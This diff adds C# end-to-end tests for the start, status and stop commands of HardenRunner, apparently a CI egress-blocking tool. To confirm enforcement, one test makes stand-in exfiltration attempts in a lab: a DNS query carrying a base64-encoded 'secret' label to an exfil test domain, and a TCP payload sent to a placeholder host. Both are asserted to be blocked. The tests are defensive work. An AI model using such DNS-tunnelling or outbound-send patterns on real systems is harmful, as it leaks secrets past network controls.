@@ -1,0 +1,78 @@
+using HardenRunner.EndToEnd.Tests.Support;
+using HardenRunner.Lab;
+using TestLab = HardenRunner.Lab.Lab;
+
+namespace HardenRunner.EndToEnd.Tests;
+
+/// <summary><c>harden-runner start | status | stop</c> as a CI job uses them: the appliance outlives the step that started it.</summary>
+public sealed class CliLifecycleTests
+{
+    private static readonly TimeSpan CommandTimeout = TimeSpan.FromSeconds(60);
+
+    private static Task<LabProcessResult> Cli(TestLab lab, IDictionary<string, string>? env, params string[] args) =>
+        lab.RunInRunnerAsync("dotnet", [HardenRunnerBinary.Path, .. args], CommandTimeout, env);
+
+    [SkippableFact]
+    public async Task StartStatusStop_EnforcesInBackground_AndAppendsTheStepSummary()
+    {
+        Skip.IfNot(LabEnvironment.CanRun, LabEnvironment.SkipReason);
+        await using var lab = await TestLab.StartAsync(new LabOptions());
+        var dir = Path.Combine(lab.WorkDirectory, "job");
+        Directory.CreateDirectory(Path.Combine(dir, ".harden"));
+        await File.WriteAllTextAsync(Path.Combine(dir, ".harden", "policy.yml"), EnforcementCoreTests.Policy);
+        var state = Path.Combine(dir, "state");
+        var summaryFile = Path.Combine(dir, "step-summary.md");
+        await File.WriteAllTextAsync(summaryFile, "# earlier step\n");
+        var env = new Dictionary<string, string> { ["GITHUB_WORKSPACE"] = dir, ["GITHUB_STEP_SUMMARY"] = summaryFile };
+
+        var notYet = await Cli(lab, env, "status", "--state-dir", state);
+        Assert.Equal(1, notYet.ExitCode);
+
+        // the policy comes from $GITHUB_WORKSPACE/.harden/policy.yml
+        var start = await Cli(lab, env, "start", "--state-dir", state);
+        Assert.True(start.ExitCode == 0, start.ToString());
+        Assert.Contains("block mode", start.StandardOutput, StringComparison.Ordinal);
+
+        var status = await Cli(lab, env, "status", "--state-dir", state, "--wait", "5");
+        Assert.True(status.ExitCode == 0, status.ToString());
+        Assert.Contains("\"ready\":true", status.StandardOutput, StringComparison.Ordinal);
+
+        var again = await Cli(lab, env, "start", "--state-dir", state);
+        Assert.Equal(1, again.ExitCode);
+        Assert.Contains("already running", again.StandardError, StringComparison.Ordinal);
+
+        // enforcement is in place after start returned
+        var dig = await EnforcementCoreTests.DigAsync(lab, "c2VjcmV0.cli.exfil.test", "A");
+        Assert.Contains("status: NXDOMAIN", dig.StandardOutput, StringComparison.Ordinal);
+        var payload = EnforcementCoreTests.Unique("cli-");
+        Assert.False((await EnforcementCoreTests.SendAsync(lab, "tcp", "198.51.100.20", 9000, payload)).Succeeded);
+
+        var stop = await Cli(lab, env, "stop", "--state-dir", state);
+        Assert.True(stop.ExitCode == 0, stop.ToString());
+        Assert.Contains("## HardenRunner", stop.StandardOutput, StringComparison.Ordinal);
+        var summary = await File.ReadAllTextAsync(summaryFile);
+        Assert.StartsWith("# earlier step\n## HardenRunner", summary, StringComparison.Ordinal);
+        Assert.Contains("`198.51.100.20` | 9000 | tcp | deny | blocked", summary, StringComparison.Ordinal);
+
+        var tables = await lab.RunInRunnerAsync("nft", ["list", "tables"], CommandTimeout);
+        Assert.DoesNotContain("harden_runner", tables.StandardOutput, StringComparison.Ordinal);
+        Assert.Equal(1, (await Cli(lab, env, "status", "--state-dir", state)).ExitCode);
+        Assert.Equal(1, (await Cli(lab, env, "stop", "--state-dir", state)).ExitCode);
+        Assert.True(await lab.TcpLog.NoneWithinAsync(r => r.Preview.Contains(payload, StringComparison.Ordinal), TimeSpan.FromSeconds(1)));
+    }
+
+    [SkippableFact]
+    public async Task Start_InvalidPolicy_FailsWithTheReason_AndLeavesNothingRunning()
+    {
+        Skip.IfNot(LabEnvironment.CanRun, LabEnvironment.SkipReason);
+        await using var lab = await TestLab.StartAsync(new LabOptions());
+        var policy = Path.Combine(lab.WorkDirectory, "bad.yml");
+        await File.WriteAllTextAsync(policy, "egress-policy: block\nallowed-endpoints:\n  - github.com:70000\n");
+        var state = Path.Combine(lab.WorkDirectory, "state");
+
+        var start = await Cli(lab, null, "start", "--policy", policy, "--state-dir", state);
+        Assert.Equal(2, start.ExitCode);
+        Assert.Contains("port '70000' must be a number from 1 to 65535", start.StandardError, StringComparison.Ordinal);
+        Assert.Equal(1, (await Cli(lab, null, "status", "--state-dir", state)).ExitCode);
+    }
+}
